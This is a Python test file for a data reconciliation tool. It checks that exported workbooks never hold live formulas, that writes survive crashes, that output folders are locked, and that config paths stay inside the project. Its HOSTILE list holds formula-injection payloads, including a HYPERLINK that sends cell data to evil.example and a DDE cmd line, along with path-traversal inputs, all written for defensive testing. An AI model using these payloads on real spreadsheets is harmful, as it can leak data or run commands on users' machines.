"""Outputs under attack and interruption: no formula ever, atomic replace, one run per folder, safe paths."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from reconcile.cli import main
from reconcile.config import load_settings
from reconcile.errors import ConfigError
from reconcile.files import LOCK_NAME, output_lock, write_atomic
from tests.conftest import ANNEX_LIST, settings_text
from tests.small_scenario import write_small_scenario

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """The small scenario with annex rows whose names, places and dates are formula injections."""
    folder = tmp_path_factory.mktemp("hostile")
    write_small_scenario(folder)
    with (folder / "annex.csv").open("a", encoding="utf-8", newline="") as annex:
        for number, text in enumerate(HOSTILE, start=900):
            quoted = '"' + text.replace('"', '""') + '"'
            annex.write(f"\n{number},Ali Rezai {quoted},{quoted},{quoted}")
        annex.write(f"\n999,{HOSTILE[0].replace(',', ';')},Evin,\n")
    out = folder / "out"
    assert main(["run", "--config", str(folder / "reconcile.toml"), "--out", str(out), "--quiet"]) == 0
    return out


def test_no_output_workbook_holds_a_formula(hostile_run):
    workbooks = sorted(hostile_run.glob("*.xlsx"))
    assert workbooks
    for path in workbooks:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    xml = archive.read(name).decode("utf-8")
                    assert not re.search(r"<(\w+:)?f[\s>/]", xml), (path.name, name)


def test_hostile_text_reaches_the_workbook_as_text(hostile_run):
    import openpyxl

    workbook = openpyxl.load_workbook(hostile_run / "reconciliation.xlsx", read_only=True)
    texts = {
        str(value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
        if value is not None
    }
    workbook.close()
    assert any("HYPERLINK" in text for text in texts)  # kept, as evidence, but never live


def test_a_crash_while_writing_leaves_the_previous_file_and_no_temporary(tmp_path):
    target = tmp_path / "persons.csv"
    target.write_text("previous\n", encoding="utf-8")

    def crash(temporary: Path) -> None:
        temporary.write_text("half of the new", encoding="utf-8")
        raise KeyboardInterrupt  # the run is stopped mid-write

    with pytest.raises(KeyboardInterrupt):
        write_atomic(target, crash)
    assert target.read_text(encoding="utf-8") == "previous\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["persons.csv"]
    write_atomic(target, lambda temporary: temporary.write_text("new\n", encoding="utf-8"))
    assert target.read_text(encoding="utf-8") == "new\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["persons.csv"]


def test_a_killed_writer_process_leaves_the_previous_file_intact(tmp_path):
    """SIGKILL mid-write: no cleanup code runs, yet the target is the old file, whole."""
    target = tmp_path / "persons.csv"
    target.write_text("previous\n", encoding="utf-8")
    script = (
        "import os, sys, pathlib\n"
        "from reconcile.files import write_atomic\n"
        "def write(t):\n"
        "    t.write_text('half of the new', encoding='utf-8')\n"
        "    os.kill(os.getpid(), 9)\n"
        f"write_atomic(pathlib.Path({str(target)!r}), write)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], cwd=Path(__file__).parents[1], check=False)
    assert done.returncode == -9
    assert target.read_text(encoding="utf-8") == "previous\n"


def test_a_second_run_on_the_same_output_folder_is_refused_with_a_clear_line(tmp_path, capsys):
    folder = tmp_path / "project"
    folder.mkdir()
    write_small_scenario(folder)
    out = tmp_path / "out"
    with output_lock(out):
        assert (out / LOCK_NAME).read_text() == str(os.getpid())
        code = main(["run", "--config", str(folder / "reconcile.toml"), "--out", str(out), "--quiet"])
        line = capsys.readouterr().err.strip()
    assert code == 2
    assert line.startswith("reconcile: error: ") and "\n" not in line
    assert f"process {os.getpid()}" in line and "being written by another run" in line
    assert not (out / LOCK_NAME).exists()


def test_the_lock_is_released_after_a_failure_and_a_dead_runs_lock_is_taken_over(tmp_path):
    with pytest.raises(RuntimeError), output_lock(tmp_path):
        raise RuntimeError("stage failed")
    assert not (tmp_path / LOCK_NAME).exists()
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    (tmp_path / LOCK_NAME).write_text(dead.stdout.strip())
    with output_lock(tmp_path):
        assert (tmp_path / LOCK_NAME).read_text() == str(os.getpid())
    (tmp_path / LOCK_NAME).write_text("not a pid")  # whatever it says, no process holds it
    with output_lock(tmp_path):
        assert (tmp_path / LOCK_NAME).read_text() == str(os.getpid())


# --- paths in settings ------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["../annex.csv", "sub/../../annex.csv", "/etc/annex.csv", "link/annex.csv"])
def test_list_paths_cannot_leave_the_settings_folder(tmp_path, path):
    project = tmp_path / "project"
    (project / "sub").mkdir(parents=True)
    (tmp_path / "annex.csv").write_text("No,Name\n", encoding="utf-8")
    (project / "link").symlink_to(tmp_path, target_is_directory=True)
    (project / "reconcile.toml").write_text(
        settings_text(ANNEX_LIST.replace('path = "annex.csv"', f'path = "{path}"')), encoding="utf-8"
    )
    with pytest.raises(ConfigError, match="allow_paths_outside") as raised:
        load_settings(project / "reconcile.toml")
    assert raised.value.key == "lists.annex.path"


def test_paths_outside_are_allowed_only_when_said(tmp_path):
    project = tmp_path / "project"
    project.mkdir()
    (project / "reconcile.toml").write_text(
        settings_text(
            ANNEX_LIST.replace('path = "annex.csv"', 'path = "../annex.csv"'), "allow_paths_outside = true"
        ),
        encoding="utf-8",
    )
    assert load_settings(project / "reconcile.toml").lists[0].path == (tmp_path / "annex.csv").resolve()


def test_a_symlink_to_a_device_is_refused_even_when_outside_paths_are_allowed(tmp_path):
    (tmp_path / "annex.csv").symlink_to("/dev/zero")
    (tmp_path / "reconcile.toml").write_text(
        settings_text(ANNEX_LIST, "allow_paths_outside = true"), encoding="utf-8"
    )
    with pytest.raises(ConfigError, match="only .csv and .xlsx"):
        load_settings(tmp_path / "reconcile.toml")


@pytest.mark.parametrize("limit", ["max_file_mb = 0", "max_rows = -1", "max_columns = 0"])
def test_limits_must_be_positive(project, limit):
    folder = project({"reconcile.toml": settings_text(ANNEX_LIST, f"[limits]\n{limit}")})
    with pytest.raises(ConfigError, match="must be above 0"):
        load_settings(folder / "reconcile.toml")


def test_fractional_size_limits_are_accepted(project):
    folder = project({"reconcile.toml": settings_text(ANNEX_LIST, "[limits]\nmax_file_mb = 0.5")})
    assert load_settings(folder / "reconcile.toml").limits.max_file_mb == 0.5
